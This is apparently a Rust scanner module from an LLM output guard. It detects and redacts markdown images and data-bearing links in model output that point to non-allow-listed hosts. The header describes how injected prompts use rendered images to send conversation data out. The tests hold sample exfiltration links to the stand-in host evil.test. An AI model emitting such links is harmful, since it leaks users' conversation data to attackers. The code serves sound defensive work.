//! `GRD107 output-exfiltration-link`: markdown images and links in model output that point to
//! hosts outside an allow-list with data in the URL — the channel an injected prompt uses to
//! make a chat client send conversation data to an attacker when it renders the image.

use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

use crate::{Action, Hit, Prepared, rules::GRD107};

/// `[guard.output.links]`.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields, default, rename_all = "kebab-case")]
pub struct Config {
    /// Action on a match (`redact` replaces the URL with `<URL_REMOVED>`).
    pub action: Action,
    /// Hosts (and their subdomains) links may point to.
    pub allow_domains: Vec<String>,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            action: Action::Redact,
            allow_domains: Vec::new(),
        }
    }
}

/// The scanner.
pub struct Links(Config);

impl Links {
    /// From its config.
    pub fn new(c: &Config) -> Self {
        Self(Config {
            action: c.action,
            allow_domains: c
                .allow_domains
                .iter()
                .map(|d| d.to_ascii_lowercase())
                .collect(),
        })
    }

    fn allowed(&self, host: &str) -> bool {
        let host = host.to_ascii_lowercase();
        self.0
            .allow_domains
            .iter()
            .any(|d| host == *d || host.ends_with(&format!(".{d}")))
    }
}

/// `![alt](url)` images always; `[text](url)` links and reference definitions `[x]: url` when
/// the URL carries a query or fragment (data to exfiltrate).
static LINK: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?:!\[[^\]]{0,200}\]\(\s*|\[[^\]]{0,200}\]\(\s*|^\s*\[[^\]]{1,100}\]:\s*)(https?://([^/\s)?#"'<>]+)[^\s)"'<>]*)"#)
        .ok()
});

impl super::Scanner for Links {
    fn name(&self) -> &'static str {
        "links"
    }
    fn reads_prepared(&self) -> bool {
        false
    }
    fn scan(&self, raw: &str, _p: &Prepared) -> Vec<Hit> {
        let Some(re) = &*LINK else { return Vec::new() };
        let mut spans = Vec::new();
        let mut hosts = Vec::new();
        for line_start in std::iter::once(0).chain(raw.match_indices('\n').map(|(i, _)| i + 1)) {
            let line_end = raw[line_start..]
                .find('\n')
                .map_or(raw.len(), |e| line_start + e);
            let line = &raw[line_start..line_end];
            for c in re.captures_iter(line) {
                let (Some(whole), Some(url), Some(host)) = (c.get(0), c.get(1), c.get(2)) else {
                    continue;
                };
                let image = whole.as_str().starts_with('!');
                let carries_data = url.as_str().contains(['?', '#', '=']);
                if self.allowed(host.as_str()) || !(image || carries_data) {
                    continue;
                }
                spans.push((
                    line_start + url.start(),
                    line_start + url.end(),
                    "<URL_REMOVED>".to_string(),
                ));
                hosts.push(host.as_str().to_ascii_lowercase());
            }
        }
        if spans.is_empty() {
            return Vec::new();
        }
        hosts.sort();
        hosts.dedup();
        vec![Hit {
            rule: &GRD107,
            score: 0.9,
            action: self.0.action,
            evidence: format!("links to {}", hosts.join(", ")),
            spans,
        }]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Scanner as _;

    fn scan(c: &Config, t: &str) -> Vec<Hit> {
        Links::new(c).scan(t, &Prepared::new(t))
    }

    #[test]
    fn exfiltration_images_and_data_links_are_caught() {
        let c = Config {
            allow_domains: vec!["example.com".into()],
            ..Config::default()
        };
        let t = "Sure! ![loading](https://evil.test/log?q=the%20secret) done";
        let h = scan(&c, t);
        assert_eq!(h[0].evidence, "links to evil.test");
        assert_eq!(
            &t[h[0].spans[0].0..h[0].spans[0].1],
            "https://evil.test/log?q=the%20secret"
        );
        assert_eq!(scan(&c, "[click](https://evil.test/a?d=1)").len(), 1);
        assert_eq!(scan(&c, "see\n[ref]: https://evil.test/x?y=2\n").len(), 1);
    }

    #[test]
    fn allowed_hosts_and_plain_links_pass() {
        let c = Config {
            allow_domains: vec!["example.com".into()],
            ..Config::default()
        };
        assert!(scan(&c, "![logo](https://cdn.example.com/logo.png?v=2)").is_empty());
        assert!(scan(&c, "read [the docs](https://docs.rs/regex)").is_empty());
        assert!(scan(&c, "plain https://evil.test/?q=1 text is not rendered").is_empty());
    }
}
